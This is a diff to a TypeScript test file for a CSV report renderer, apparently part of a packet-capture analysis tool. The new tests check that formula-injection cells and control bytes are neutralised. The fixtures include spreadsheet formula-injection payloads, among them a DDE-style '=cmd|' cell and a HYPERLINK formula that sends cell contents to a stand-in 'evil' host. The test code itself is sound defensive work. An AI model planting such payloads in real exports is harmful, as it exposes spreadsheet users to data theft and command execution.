@@ -45,16 +45,18 @@ describe('renderCsv', () => {
     for (const row of rows) expect(row.length).toBe(rows[0].length);
   });
 
-  it('round-trips every field through a CSV reader, hostile text included', () => {
+  it('round-trips every field through a CSV reader, hostile text made safe', () => {
     const files = [HOSTILE_FILE, 'comma,quote"and\r\nnewline.pcap', '=cmd|x.pcap'];
     const records = files.map((file, i) => record({ file, stream: i, explanation: `said "${file}", then left` }));
     const rows = parseCsv(renderCsv(report(records)));
     const header = rows[0];
     const col = (name: string): number => header.indexOf(name);
+    // What a spreadsheet must show: controls made visible (one line per row), formulas disarmed.
+    const shown = [HOSTILE_FILE, 'comma,quote"and\\x0d\\x0anewline.pcap', "'=cmd|x.pcap"];
     records.forEach((r, i) => {
       const row = rows[i + 1];
-      expect(row[col('file')]).toBe(r.file);
-      expect(row[col('explanation')]).toBe(r.explanation);
+      expect(row[col('file')]).toBe(shown[i]);
+      expect(row[col('explanation')]).toBe(`said "${shown[i].replace(/^'/, '')}", then left`);
       expect(row[col('stream')]).toBe(String(r.stream));
       expect(row[col('stuckSeconds')]).toBe('41');
       expect(row[col('delaySeconds')]).toBe('');
@@ -80,6 +82,18 @@ describe('renderCsv', () => {
     expect(row[header.indexOf('fins')]).toBe('5:client:;9:client::retransmission');
     expect(row[header.indexOf('resets')]).toBe('12:server:passive');
     expect(row[header.indexOf('icmpErrors')]).toBe('3:client:3/3');
+  });
+
+  it('disarms cells a spreadsheet would run as a formula (OWASP CSV injection) and shows control bytes', () => {
+    for (const start of ['=', '+', '-', '@']) expect(csvField(`${start}HYPERLINK("http://x/")`)).toBe(`"'${start}HYPERLINK(""http://x/"")"`);
+    // Tab and CR become visible escapes first, so they no longer lead the cell.
+    expect(csvField('\t=1+1')).toBe('\\x09=1+1');
+    expect(csvField('\r=1+1')).toBe('\\x0d=1+1');
+    expect(csvField('a\x1b[31mb\x07')).toBe('a\\x1b[31mb\\x07');
+    // Plain text, numbers and the null mark stay as they are.
+    for (const plain of ['capture.pcap', '-', '-12', '+3.5', 'a=b']) expect(csvField(plain)).toBe(plain);
+    const row = csvRow(record({ file: '=HYPERLINK("http://evil/?"&A1,"x").pcap' }));
+    expect(row.startsWith(`"'=HYPERLINK(`)).toBe(true);
   });
 
   it('streams: csvHeader plus csvRow per record is the whole report', () => {
